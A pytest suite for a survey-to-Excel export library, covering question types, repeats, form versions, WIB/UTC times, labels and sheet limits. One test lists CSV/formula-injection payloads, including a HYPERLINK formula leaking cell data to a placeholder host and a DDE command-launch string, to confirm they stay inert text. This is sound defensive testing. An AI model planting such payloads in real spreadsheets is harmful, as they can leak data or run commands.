"""The export workbook read back cell by cell with openpyxl: every question type, relevance, selects,
repeats, versions, time zones, languages, and the export field cases (FC-1, 4, 5, 7, 9, 10, 11, 13)."""

from __future__ import annotations

from datetime import UTC, date, datetime, time, timedelta

import pytest
from export_helpers import T0, all_text, cells, sheet_rows, table
from forms_md import form
from openpyxl import load_workbook

from exports import EventRecord, ExportOptions, NoteRecord, SubmissionRecord, export_workbook
from exports.cells import EXCEL_CELL_LIMIT

ALL_TYPES = """
| survey |  |  |  | | | |
| | type | name | label::English (en) | label::Indonesian (id) | parameters | calculation |
| | text | t | Text | Teks | | |
| | integer | i | Integer | Bilangan | | |
| | decimal | d | Decimal | Desimal | | |
| | range | r | Range | Rentang | start=0 end=10 step=0.5 | |
| | select_one abc | s1 | One | Satu | | |
| | select_multiple abc | sm | Many | Banyak | | |
| | rank abc | rk | Rank | Urutan | | |
| | date | dt | Date | Tanggal | | |
| | time | tm | Time | Waktu | | |
| | dateTime | dtm | When | Kapan | | |
| | geopoint | gp | Where | Di mana | | |
| | image | img | Photo | Foto | | |
| | audio | aud | Voice | Suara | | |
| | video | vid | Video | Video | | |
| | file | fil | File | Berkas | | |
| | calculate | calc | | | | ${i} * 2 |
| | acknowledge | ack | OK? | OK? | | |
| | note | nt | Note | Catatan | | |
| choices | | | | |
| | list_name | name | label::English (en) | label::Indonesian (id) |
| | abc | a | Apple | Apel |
| | abc | b | Banana | Pisang |
| | abc | c | Cherry | Ceri |
"""


def sub(iid: str, answers: dict[str, str], version: str = "", **kw) -> SubmissionRecord:
    base = dict(instance_id=iid, form_version=version, respondent=f"R-{iid.upper()}", enumerator="E-1",
                mode="enumerator", status="submitted", language="id", started_at=T0,
                ended_at=T0 + timedelta(minutes=5), submitted_at=T0 + timedelta(minutes=6))
    base.update(kw)
    return SubmissionRecord(answers=answers, **base)


def test_every_question_type_round_trips_with_real_types(tmp_path):
    f = form(ALL_TYPES, "types")
    answers = {"t": "hello", "i": "42", "d": "3.5", "r": "7.5", "s1": "b", "sm": "c a", "rk": "c a b",
               "dt": "2024-03-05", "tm": "09:55:00", "dtm": "2024-03-05T09:55:00+07:00",
               "gp": "-1.61 103.61 35 4.5", "img": "abc.jpg", "aud": "def.ogg", "vid": "v.mp4", "fil": "f.pdf",
               "calc": "84", "ack": "OK"}
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u1", answers)], out=out)
    row = table(out, "types")[0]
    assert row["t"] == "hello"
    assert row["i"] == 42 and isinstance(row["i"], int)
    assert row["d"] == 3.5 and row["r"] == 7.5
    assert row["s1"] == "b"
    assert (row["sm"], row["sm/a"], row["sm/b"], row["sm/c"]) == ("c a", 1, 0, 1)
    assert (row["rk"], row["rk/a"], row["rk/b"], row["rk/c"]) == ("c a b", 2, 3, 1)  # rank = position
    assert row["dt"] == datetime(2024, 3, 5)
    assert row["tm"] == time(9, 55)
    assert row["dtm"] == datetime(2024, 3, 5, 9, 55)
    assert row["gp"] == "-1.61 103.61 35 4.5"
    assert (row["_gp_latitude"], row["_gp_longitude"], row["_gp_altitude"], row["_gp_precision"]) == (
        -1.61, 103.61, 35, 4.5)
    assert row["img"] == "abc.jpg"  # no media record given: the reference is kept, no link
    assert row["img_URL"] is None and row["aud_duration_s"] is None
    assert (row["vid"], row["vid_URL"], row["vid_duration_s"], row["fil"], row["fil_URL"]) == (
        "v.mp4", None, None, "f.pdf", None)
    assert "fil_duration_s" not in row and "img_duration_s" not in row
    assert row["calc"] == 84  # a plain-number calculation result is a number ("01" stays text: FC-10)
    assert row["ack"] == "OK"
    assert "nt" not in row  # notes hold no value
    ws = cells(out, "types")
    head = [c.value for c in ws[1]]
    assert ws.cell(2, head.index("dt") + 1).number_format == "yyyy-mm-dd"
    assert ws.cell(2, head.index("i") + 1).data_type == "n"


def test_relevance_not_asked_is_empty_and_asked_empty_is_recorded(tmp_path):
    """Absent key = not asked: every column empty (no 0s). Key with "" = asked, left empty (skipped)."""
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u1", {"t": "x"}), sub("u2", {"t": "x", "sm": "", "i": ""})], out=out)
    not_asked, skipped = table(out, "types")
    for col in ("i", "sm", "sm/a", "sm/b", "sm/c", "dt", "gp", "_gp_latitude", "img", "img_URL"):
        assert not_asked[col] is None, col
    assert not_asked["_skipped"] is None
    assert skipped["i"] is None
    assert (skipped["sm"], skipped["sm/a"], skipped["sm/b"], skipped["sm/c"]) == (None, 0, 0, 0)
    assert skipped["_skipped"] == "sm i"


def test_fc1_select_multiple_split_and_not_relevant_also_in_repeats(tmp_path):
    f = form("""
| survey |  |  |  | |
| | type | name | label | relevant |
| | select_one yn | ask | Ask? | |
| | select_multiple abc | q | Q | ${ask} = 'yes' |
| | begin repeat | rep | Rep | |
| | select_multiple abc | rq | RQ | |
| | end repeat | | | |
| choices | | | |
| | list_name | name | label |
| | abc | a | A |
| | abc | b | B |
| | abc | c | C |
| | yn | yes | Yes |
| | yn | no | No |
""", "fc1")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u1", {"ask": "yes", "q": "a c", "rep[1]/rq": "b", "rep[2]/rq": "a c"}),
                          sub("u2", {"ask": "no", "rep[1]/rq": "c"}, repeat_counts={"rep": 2})], out=out)
    asked, not_rel = table(out, "fc1")
    assert (asked["q"], asked["q/a"], asked["q/b"], asked["q/c"]) == ("a c", 1, 0, 1)
    assert all(isinstance(asked[k], int) for k in ("q/a", "q/b", "q/c"))
    assert [not_rel[k] for k in ("q", "q/a", "q/b", "q/c")] == [None] * 4
    reps = table(out, "rep")
    assert [(r["rq"], r["rq/a"], r["rq/b"], r["rq/c"]) for r in reps] == [
        ("b", 0, 1, 0), ("a c", 1, 0, 1), ("c", 0, 0, 1), (None, None, None, None)]
    # the 4th row: instance 2 of u2 exists (repeat_counts) but its question was never asked
    assert reps[3]["_submission__uuid"] == "u2" and reps[3]["_parent_index"] == 2


def test_or_other_gives_other_choice_and_specify_column(tmp_path):
    f = form("""
| survey |  |  |  |
| | type | name | label |
| | select_one abc or_other | s | S |
| | select_multiple abc or_other | m | M |
| choices | | | |
| | list_name | name | label |
| | abc | a | A |
| | abc | b | B |
""", "oth")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u1", {"s": "other", "s_other": "durian", "m": "a other", "m_other": "kiwi"}),
                          sub("u2", {"s": "a", "m": "b"})], out=out)
    r1, r2 = table(out, "oth")
    assert (r1["s"], r1["s_other"]) == ("other", "durian")
    assert (r1["m"], r1["m/a"], r1["m/b"], r1["m/other"], r1["m_other"]) == ("a other", 1, 0, 1, "kiwi")
    assert (r2["s"], r2["s_other"], r2["m/other"], r2["m_other"]) == ("a", None, 0, None)
    names = sheet_rows(out, "oth")[0]
    assert names.index("s_other") == names.index("s") + 1  # beside its question


NESTED = """
| survey |  |  |  | |
| | type | name | label | repeat_count |
| | begin group | garden | Garden | |
| | begin repeat | tree | Tree | |
| | text | species | Species | |
| | begin group | g2 | Inner | |
| | begin repeat | nest | Nest | |
| | integer | eggs | Eggs | |
| | begin repeat | egg | Egg | ${eggs} |
| | decimal | weight | Weight | |
| | end repeat | | | |
| | end repeat | | | |
| | end group | | | |
| | end repeat | | | |
| | end group | | | |
"""


def test_fc13_nested_repeats_in_groups_have_own_and_parent_keys(tmp_path):
    f = form(NESTED, "fc13")
    answers = {"garden/tree[1]/species": "durian", "garden/tree[2]/species": "rambutan"}
    eggs = {(1, 1): 1, (1, 2): 3, (2, 1): 2, (2, 2): 1}
    for (t, n), k in eggs.items():
        answers[f"garden/tree[{t}]/g2/nest[{n}]/eggs"] = str(k)
        for e in range(1, k + 1):
            answers[f"garden/tree[{t}]/g2/nest[{n}]/egg[{e}]/weight"] = f"{t}.{n}{e}"
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u0", {}), sub("u1", answers)], out=out)
    main = table(out, "fc13")
    trees, nests, eggs_rows = table(out, "tree"), table(out, "nest"), table(out, "egg")
    assert [t["species"] for t in trees] == ["durian", "rambutan"]
    assert [(t["_index"], t["_parent_index"], t["_parent_table_name"]) for t in trees] == [
        (1, 2, "fc13"), (2, 2, "fc13")]
    assert main[1]["_index"] == 2 and main[1]["_uuid"] == "u1"
    assert [(n["_index"], n["_parent_index"], n["eggs"]) for n in nests] == [
        (1, 1, 1), (2, 1, 3), (3, 2, 2), (4, 2, 1)]
    assert {n["_parent_table_name"] for n in nests} == {"tree"}
    per_nest = {}
    for e in eggs_rows:
        per_nest[e["_parent_index"]] = per_nest.get(e["_parent_index"], 0) + 1
        assert e["_parent_table_name"] == "nest" and e["_submission__uuid"] == "u1"
    assert per_nest == {n["_index"]: n["eggs"] for n in nests}  # counts per parent match what was entered
    assert [e["_index"] for e in eggs_rows] == list(range(1, 8))
    assert [e["weight"] for e in eggs_rows[:4]] == [1.11, 1.21, 1.22, 1.23]


V1 = """
| survey |  |  |  |
| | type | name | label |
| | text | a | A v1 |
| | integer | old | Removed later |
| | select_multiple abc | sm | SM |
| | text | z | Z |
| choices | | | |
| | list_name | name | label |
| | abc | x | X gone |
| | abc | a | A |
| | abc | b | B |
| settings | | | |
| | form_id | version | |
| | vs | 1 | |
"""
V2 = """
| survey |  |  |  |
| | type | name | label |
| | text | a | A v2 |
| | select_multiple abc | sm | SM |
| | integer | new | Added |
| | text | z | Z |
| choices | | | |
| | list_name | name | label |
| | abc | a | A |
| | abc | b | B |
| | abc | c | C new |
| settings | | | |
| | form_id | version | |
| | vs | 2 | |
"""


def test_two_versions_removed_added_question_and_removed_choice_do_not_shift(tmp_path):
    v1, v2 = form(V1), form(V2)
    out = tmp_path / "x.xlsx"
    export_workbook([v1, v2], [sub("u1", {"a": "one", "old": "5", "sm": "x b", "z": "z1"}, version="1"),
                               sub("u2", {"a": "two", "sm": "c", "new": "7", "z": "z2"}, version="2")],
                    out=out, options=ExportOptions(headers="both"))
    rows = sheet_rows(out, "vs")
    names, labels = rows[0], rows[1]
    qcols = names[names.index("_index") + 1:]
    assert qcols == ("a", "old", "sm", "sm/x", "sm/a", "sm/b", "sm/c", "new", "z")
    assert labels[names.index("a")] == "A v2"  # labels from the newest version
    r1, r2 = (dict(zip(names, r, strict=True)) for r in rows[2:])
    assert (r1["_version"], r1["a"], r1["old"], r1["sm/x"], r1["sm/b"], r1["sm/c"], r1["new"], r1["z"]) == (
        "1", "one", 5, 1, 1, 0, None, "z1")
    assert (r2["_version"], r2["old"], r2["sm/x"], r2["sm/c"], r2["new"], r2["z"]) == ("2", None, 0, 1, 7, "z2")
    book = table(out, "Codebook")
    old = next(r for r in book if r["path"] == "old")
    assert old["versions"] == "1"
    gone = next(r for r in book if r["path"] == "sm" and r["choice"] == "x")
    assert gone["versions"] == "removed in newest version"


def test_fc11_times_in_wib_with_utc_beside_and_dates_never_shifted(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    # a respondent whose phone is in UTC-5 answers a date and a datetime
    answers = {"dt": "2024-09-07", "dtm": "2024-09-06T22:55:00-05:00"}
    export_workbook([f], [sub("u1", answers)], out=out, options=ExportOptions(headers="both"))
    rows = sheet_rows(out, "types")
    names, labels, r = rows[0], rows[1], dict(zip(rows[0], rows[2], strict=True))
    assert r["start"] == datetime(2024, 9, 7, 9, 55) and r["start_utc"] == datetime(2024, 9, 7, 2, 55)
    assert r["_submission_time"] == datetime(2024, 9, 7, 10, 1)
    assert r["_submission_time_utc"] == datetime(2024, 9, 7, 3, 1)
    assert r["_duration_s"] == 300
    assert labels[names.index("start")] == "Start (WIB)"
    assert labels[names.index("start_utc")] == "Start (UTC)"
    assert labels[names.index("dtm")] == "When (WIB)"
    assert r["dt"] == datetime(2024, 9, 7)  # the date as entered
    assert r["dtm"] == datetime(2024, 9, 7, 10, 55)  # 22:55 at UTC-5 is 10:55 WIB
    about = dict((a, b) for a, b, *_ in sheet_rows(out, "About") if a)
    assert "Asia/Jakarta" in about["time zone"]


@pytest.mark.parametrize(("lang", "header", "value", "many"), [
    ("id", "Satu", "Pisang", "Ceri; Apel"),
    ("en", "One", "Banana", "Cherry; Apple"),
])
def test_indonesian_and_english_labels(tmp_path, lang, header, value, many):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u1", {"s1": "b", "sm": "c a"})], out=out,
                    options=ExportOptions(lang=lang, headers="labels"))
    rows = sheet_rows(out, "types")
    i = rows[0].index(header)
    assert rows[1][i] == value
    assert rows[1][i + 1] == many
    summary = sheet_rows(out, "Summary")
    assert any(r[1] == value and r[2] == 1 for r in summary)


def test_values_mode_headers_labels_default_language_and_unknown_language_refused(tmp_path):
    f = form(ALL_TYPES, "types")
    with pytest.raises(ValueError, match="xx"):
        export_workbook([f], [], out=tmp_path / "x.xlsx", options=ExportOptions(lang="xx"))


def test_fc4_long_repeat_name_sheet_mapped_to_full_path(tmp_path):
    name = "household_members_detailed_information_roster"
    f = form(f"""
| survey |  |  |  |
| | type | name | label |
| | begin repeat | {name} | Members |
| | text | member_name | Name |
| | end repeat | | |
""", "fc4")
    out = tmp_path / "x.xlsx"
    res = export_workbook([f], [sub("u1", {f"{name}[1]/member_name": "Siti"}),
                               sub("u2", {f"{name}[1]/member_name": "Budi"})], out=out)
    wb = load_workbook(out)
    titles = wb.sheetnames
    rep = [t for t in titles if t.startswith("household")]
    assert len(rep) == 1 and len(rep[0]) <= 31
    assert [r["member_name"] for r in table(out, rep[0])] == ["Siti", "Budi"]
    about = sheet_rows(out, "About")
    assert (rep[0], f"repeat group {name} (one row per instance)") in [r[:2] for r in about]
    book = table(out, "Codebook")
    assert any(r["path"] == name and r["sheet"] == rep[0] for r in book)
    assert res.rows[rep[0]] == 2


def test_fc5_truncation_collisions_give_two_distinct_sheets(tmp_path):
    a, b = "section9_pit_latrine_with_slab_group", "section9_pit_latrine_without_slab_group"
    f = form(f"""
| survey |  |  |  |
| | type | name | label |
| | begin repeat | {a} | A |
| | text | qa | QA |
| | end repeat | | |
| | begin repeat | {b} | B |
| | text | qb | QB |
| | end repeat | | |
| | begin repeat | {a[:31]}x | C |
| | text | qc | QC |
| | end repeat | | |
""", "fc5")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u1", {f"{a}[1]/qa": "with", f"{b}[1]/qb": "without", f"{a[:31]}x[1]/qc": "c"})],
                    out=out)
    titles = load_workbook(out).sheetnames[3:6]
    assert len(set(t.lower() for t in titles)) == 3 and all(len(t) <= 31 for t in titles)
    assert [table(out, t)[0].get(q) for t, q in zip(titles, ("qa", "qb", "qc"), strict=True)] == [
        "with", "without", "c"]


def test_fc7_text_over_excel_limit_continues_and_is_kept_whole(tmp_path):
    f = form(ALL_TYPES, "types")
    long = ("Kampanye di TikTok sangat berpengaruh. " * 1100)[:40_000]
    rec = sub("u1", {"t": long})
    out = tmp_path / "x.xlsx"
    res = export_workbook([f], [rec], out=out)  # a list: lengths are scanned, q_part2 is planned
    row = table(out, "types")[0]
    assert len(row["t"]) == EXCEL_CELL_LIMIT
    assert row["t"] + row["t_part2"] == long
    qual = table(out, "Qualitative")
    assert "".join(r["text"] for r in qual if r["question"] == "t") == long
    assert [r["part"] for r in qual if r["question"] == "t"] == ["1 of 2", "2 of 2"]
    assert rec.answers["t"] == long and res.cut_texts == 0


def test_fc7_unplanned_long_text_from_a_stream_is_not_silently_lost(tmp_path):
    f = form(ALL_TYPES, "types")
    long = "x" * 40_000
    out = tmp_path / "x.xlsx"
    res = export_workbook([f], iter([sub("u1", {"t": long})]), out=out)  # a generator: no pre-scan
    assert res.cut_texts == 1
    qual = table(out, "Qualitative")
    assert "".join(r["text"] for r in qual if r["question"] == "t") == long
    about = [r[1] for r in sheet_rows(out, "About") if r[1]]
    assert any("Qualitative" in str(n) and "1 texts" in str(n) for n in about)


def test_fc9_formula_injection_stays_text_numbers_stay_numbers(tmp_path):
    f = form(ALL_TYPES, "types")
    hostile = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "@SUM(1+1)", "+6281234567890",
               "-attack", "\t=1+1", "=cmd|' /C calc'!A0"]
    out = tmp_path / "x.xlsx"
    subs = [sub(f"u{i}", {"t": h, "i": "-5", "d": "-0.5", "calc": "=2+2"}) for i, h in enumerate(hostile)]
    export_workbook([f], subs, out=out, events=[
        EventRecord("u0", T0, "changed", "t", old="=1+2", new=hostile[0])])
    ws = cells(out, "types")
    head = [c.value for c in ws[1]]
    ti, ii, di, ci = (head.index(n) + 1 for n in ("t", "i", "d", "calc"))
    for r, h in enumerate(hostile, start=2):
        c = ws.cell(r, ti)
        assert (c.value, c.data_type) == (h, "s")
        assert ws.cell(r, ci).data_type == "s"
        assert ws.cell(r, ii).value == -5 and ws.cell(r, ii).data_type == "n"
        assert ws.cell(r, di).value == -0.5 and ws.cell(r, di).data_type == "n"
    for title in ("Qualitative", "Paradata"):
        for row in cells(out, title).iter_rows():
            assert all(c.data_type != "f" for c in row), title


def test_fc10_types_in_excel_and_leading_zero_choice_names_stay_text(tmp_path):
    f = form("""
| survey |  |  |  |
| | type | name | label |
| | date | d | D |
| | dateTime | dt | DT |
| | integer | i | I |
| | decimal | x | X |
| | select_one codes | c | C |
| choices | | | |
| | list_name | name | label |
| | codes | 01 | One |
| | codes | 02 | Two |
""", "fc10")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u1", {"d": "2024-03-05", "dt": "2024-03-05T09:55:00+07:00", "i": "42",
                                     "x": "3.5", "c": "01"})], out=out)
    ws = cells(out, "fc10")
    head = [c.value for c in ws[1]]
    get = {n: ws.cell(2, head.index(n) + 1) for n in ("d", "dt", "i", "x", "c")}
    assert get["d"].is_date and get["d"].value == datetime(2024, 3, 5)
    assert get["dt"].is_date and get["dt"].value == datetime(2024, 3, 5, 9, 55)
    assert (get["i"].value, get["i"].data_type) == (42, "n")
    assert (get["x"].value, get["x"].data_type) == (3.5, "n")
    assert (get["c"].value, get["c"].data_type) == ("01", "s")


def test_illegal_xml_characters_removed_and_bad_values_kept_as_text(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u1", {"t": "a\x00b\x1fc\ud800d", "i": "12abc", "d": "nan", "dt": "1850-01-01"})],
                    out=out)
    row = table(out, "types")[0]
    assert row["t"] == "abcd"
    assert (row["i"], row["d"], row["dt"]) == ("12abc", "nan", "1850-01-01")


def test_qualitative_sheet_layout_and_field_notes(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    notes = [NoteRecord("u1", "Responden ragu-ragu di pertanyaan 4", T0 + timedelta(minutes=2))]
    export_workbook([f], [sub("u1", {"t": "Saya lihat di TikTok"}, answered_at={"t": T0})], out=out,
                    notes=notes)
    ws = cells(out, "Qualitative")
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref.startswith("A1:")
    head = [c.value for c in ws[1]]
    assert head[-3:] == ["Code", "Theme", "Memo"]
    rows = table(out, "Qualitative")
    assert [(r["question"], r["text"], r["language"]) for r in rows] == [
        ("t", "Saya lihat di TikTok", "id"), ("(field note)", "Responden ragu-ragu di pertanyaan 4", "id")]
    assert rows[0]["captured_at (WIB)"] == datetime(2024, 9, 7, 9, 55)
    assert rows[0]["_respondent"] == "R-U1"
    assert all(r["Code"] is None and r["Theme"] is None and r["Memo"] is None for r in rows)
    assert ws.cell(2, head.index("text") + 1).alignment.wrap_text


def test_summary_frequencies_with_native_bar_charts(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    subs = [sub("u1", {"s1": "a", "sm": "a b"}), sub("u2", {"s1": "a", "sm": "b"}), sub("u3", {"s1": "b"}),
            sub("u4", {})]
    export_workbook([f], subs, out=out)
    rows = sheet_rows(out, "Summary")
    start = next(i for i, r in enumerate(rows) if r[0] and str(r[0]).startswith("s1 "))
    assert rows[start][2] == "asked: 3"
    assert rows[start + 2][:4] == ("a", "Apple", 2, pytest.approx(2 / 3))
    assert rows[start + 3][:3] == ("b", "Banana", 1)
    assert rows[start + 4][:3] == ("c", "Cherry", 0)
    sm = next(i for i, r in enumerate(rows) if r[0] and str(r[0]).startswith("sm "))
    assert rows[sm][2] == "asked: 2" and rows[sm + 3][:4] == ("b", "Banana", 2, 1)
    charts = load_workbook(out)["Summary"]._charts
    assert len(charts) == 3  # s1, sm, rk


def test_paradata_rows_with_times_and_only_exported_submissions(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    events = [EventRecord("u1", T0, "shown", "t"), EventRecord("u1", T0 + timedelta(seconds=4), "answered", "t",
                                                              new="hi", seconds=4.0),
              EventRecord("u9", T0, "shown", "t")]
    res = export_workbook([f], [sub("u1", {"t": "hi"})], events=events, out=out)
    assert res.rows["Paradata"] == 2 and res.rows["types"] == 1 and res.rows["Media"] == 0
    rows = table(out, "Paradata")
    assert [(r["_uuid"], r["event"], r["question"], r["new_value"], r["seconds (spent, or since the previous event)"])
            for r in rows] == [
        ("u1", "shown", "t", None, None), ("u1", "answered", "t", "hi", 4)]
    assert rows[1]["at (WIB)"] == datetime(2024, 9, 7, 9, 55, 4)


def test_filters_status_and_since_and_progress(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    subs = [sub(f"u{i}", {"t": str(i)}, status="submitted" if i % 2 else "in_progress",
                submitted_at=T0 + timedelta(days=i)) for i in range(1200)]
    calls = []
    res = export_workbook([f], subs, out=out, progress=lambda d, t: calls.append((d, t)),
                          options=ExportOptions(statuses=frozenset({"submitted"}), since=date(2024, 9, 17)))
    rows = table(out, "types")
    assert res.submissions == len(rows) == 595  # odd i from 11 to 1199
    assert rows[0]["_uuid"] == "u11" and {r["_status"] for r in rows} == {"submitted"}
    assert calls[0] == (500, 1200) and calls[-1] == (1200, 1200)
    assert res.by_status == {"submitted": 595}


def test_rows_beyond_the_sheet_limit_continue_on_a_second_sheet(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub(f"u{i}", {"i": str(i)}) for i in range(10)], out=out,
                    options=ExportOptions(max_rows=5, headers="both"))
    wb = load_workbook(out)
    names = wb.sheetnames
    assert names[2:6] == ["types", "types (2)", "types (3)", "types (4)"]
    got = []
    for t in names[2:6]:
        rows = sheet_rows(out, t)
        assert rows[0][0] == "_uuid" and rows[1][0] == "Instance ID"
        got += [r[rows[0].index("i")] for r in rows[2:]]
    assert got == list(range(10))


def test_headers_both_and_no_telegram_ids_or_phone_numbers_in_output(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u1", {"t": "ok"}, respondent="R-7K3QX")], out=out,
                    options=ExportOptions(headers="both"))
    text = all_text(out)
    assert "R-7K3QX" in text and "E-1" in text
    rows = sheet_rows(out, "types")
    assert rows[0][:2] == ("_uuid", "_submission_time") and rows[1][:2] == ("Instance ID", "Submission time (WIB)")


def test_naive_datetimes_in_records_are_refused(tmp_path):
    f = form(ALL_TYPES, "types")
    with pytest.raises(ValueError, match="naive"):
        export_workbook([f], [sub("u1", {}, started_at=datetime(2024, 1, 1))], out=tmp_path / "x.xlsx")


def test_exported_at_shown_in_wib_and_utc(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [], out=out, options=ExportOptions(exported_at=datetime(2024, 1, 1, 20, 0, tzinfo=UTC)))
    about = {r[0]: r[1] for r in sheet_rows(out, "About") if r[0]}
    assert about["exported at (WIB)"] == datetime(2024, 1, 2, 3, 0)
    assert about["exported at (UTC)"] == datetime(2024, 1, 1, 20, 0)
    assert about["submissions exported"] == 0


def test_fc11_names_header_notes_say_the_zone(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    export_workbook([f], [sub("u1", {})], out=out)
    ws = cells(out, "types")
    notes = {c.value: c.comment.text if c.comment else "" for c in ws[1]}
    assert "WIB" in notes["start"] and "WIB" in notes["_submission_time"] and "WIB" in notes["dtm"]
    assert "UTC" in notes["start_utc"] and notes["t"] == ""


def test_paradata_seconds_since_previous_event_when_not_given(tmp_path):
    f = form(ALL_TYPES, "types")
    out = tmp_path / "x.xlsx"
    events = [EventRecord("u1", T0, "shown", "t"), EventRecord("u1", T0 + timedelta(seconds=2.5), "answered", "t"),
              EventRecord("u2", T0 + timedelta(seconds=9), "shown", "t")]
    export_workbook([f], [sub("u1", {"t": "a"}), sub("u2", {})], events=events, out=out)
    secs = [r[7] for r in sheet_rows(out, "Paradata")[1:]]
    assert secs == [None, 2.5, None]  # too-fast answers show up; a new interview starts afresh


def test_out_may_be_an_existing_folder(tmp_path):
    f = form(ALL_TYPES, "types")
    res = export_workbook([f], [sub("u1", {"t": "a"})], out=tmp_path)
    assert res.path == tmp_path / "types.xlsx" and table(res.path, "types")[0]["t"] == "a"
